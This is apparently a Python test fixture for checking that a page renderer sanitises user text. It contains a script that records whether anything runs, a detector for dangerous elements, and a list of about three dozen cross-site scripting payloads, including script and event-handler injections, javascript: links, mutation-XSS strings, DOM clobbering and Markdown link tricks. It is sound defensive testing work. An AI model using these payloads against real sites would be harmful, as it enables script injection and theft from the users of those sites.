"""Texts that try to run a script in the page that shows them, or to have it ask somebody else for something."""

from __future__ import annotations

#: Nobody's address: a page that asks for anything there gives away that it was read.
OUTSIDE = "http://outside.invalid"
#: What a script of a text would do; `PLANTED` makes it heard.
RUN = "__ran(1)"

#: Run before any script of the page: whatever a text gets to run leaves a trace here.
PLANTED = """
window.__heard = [];
window.__ran = what => window.__heard.push(String(what));
for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = () => window.__ran(name);
document.addEventListener("securitypolicyviolation", event => window.__ran(`policy ${event.violatedDirective}`));
"""

#: What no text may bring into the page, and what would run if it did.
TRACES = """() => {
  const all = [...document.querySelectorAll("*")];
  const told = all.flatMap(one => [...one.attributes].map(each => [one.tagName, each.name, each.value]));
  const strange = "script[src*=outside],iframe,object,embed,base,form[action],link[href*=outside],meta[http-equiv]," +
    "svg script,math,video,audio,template,style:not([nonce]),input[type=image],[srcdoc],[srcset],[ping],[style*=url]";
  return [
    ...window.__heard,
    ...told.filter(([, name]) => name.startsWith("on")).map(String),
    ...told.filter(([, , value]) => /^\\s*(javascript|vbscript|data\\s*:\\s*text)/i.test(value)).map(String),
    ...told.filter(([, name, value]) => name === "src" && value.includes("outside")).map(String),
    ...told.filter(([tag, name, value]) => name === "href" && tag !== "A" && value.includes("outside")).map(String),
    ...[...document.querySelectorAll(strange)].map(one => one.outerHTML.slice(0, 200)),
    ...[...document.querySelectorAll("img")].filter(one => !one.src.endsWith("/icon.svg")).map(one => one.outerHTML),
  ];
}"""

HOSTILE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{OUTSIDE}/pixel.png">',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    f'<svg><script href="{OUTSIDE}/a.js"></script></svg>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="{OUTSIDE}/o"></object><embed src="{OUTSIDE}/e">',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    f'<base href="{OUTSIDE}/"><link rel="stylesheet" href="{OUTSIDE}/s.css">',
    f"<style>@import '{OUTSIDE}/s.css'; body {{ background: url({OUTSIDE}/b) }}</style>",
    f'<div style="background:url({OUTSIDE}/c)">styled</div>',
    f'<form action="{OUTSIDE}"><button formaction="javascript:{RUN}">press</button></form>',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>open</summary></details>",
    f'<video src="{OUTSIDE}/v" onerror={RUN}></video><audio src="{OUTSIDE}/a" onerror={RUN}></audio>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<a href='javascript:{RUN}'>link</a><a href=\"&#106;avascript:{RUN}\">entity</a>",
    "<img id=location name=cookie><form id=body name=getElementById></form>",
    f"[press](javascript:{RUN})",
    f"[press](java\tscript:{RUN}) [press](\x01javascript:{RUN}) [press](JaVaScRiPt&colon;{RUN})",
    f"[press](data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==) [press](vbscript:{RUN})",
    f"![picture]({OUTSIDE}/i.png) ![picture][ref]\n\n[ref]: {OUTSIDE}/r.png",
    f"[![picture]({OUTSIDE}/l.png)](javascript:{RUN})",
    f'[named]({OUTSIDE} "x\\" onmouseover=\\"{RUN}")',
    f"<javascript:{RUN}> <{OUTSIDE}/auto>",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"`` <img src=x onerror={RUN}> ``",
    f"| a |\n|-|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>\n\n- <svg onload={RUN}>",
    f"</textarea></title></style></script>--><img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u2066 \u200b<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"<<script>script>{RUN}<</script>/script><img/src/onerror={RUN}>",
)
